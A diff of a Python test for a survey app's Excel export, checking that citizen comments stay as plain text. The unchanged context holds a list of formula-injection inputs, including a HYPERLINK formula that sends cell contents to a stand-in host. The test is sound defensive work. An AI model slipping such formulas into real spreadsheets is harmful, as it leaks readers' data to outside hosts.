@@ -18,6 +18,7 @@ from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
 from kinerja.core.spreadsheet import FORMULA_START, csv_cell, xlsx_row
 from kinerja.insight import reports
 from tests.citizen.conftest import add_answers, layanan  # noqa: F401 - the fixture
+from tests.jobs import job_file
 from tests.properties import bounded
 
 DANGEROUS = ['=HYPERLINK("http://x.example/?"&A1,"klik")', "+62 812", "-1+1", "@SUM(A1)",
@@ -65,9 +66,7 @@ def test_the_ikm_workbook_keeps_public_comments_and_names_as_text(personas, logi
     layanan.save(update_fields=["nama"])
     for saran in DANGEROUS:
         add_answers(layanan, [[3] * 9], saran=saran)
-    response = login(personas.admin).get(reverse("citizen_export"))
-    assert response.status_code == 200
-    book = load_workbook(io.BytesIO(response.content))
+    book = load_workbook(io.BytesIO(job_file(login(personas.admin), reverse("citizen_export"))))
     for sheet in book.worksheets:
         for row in sheet.iter_rows():
             for cell in row:
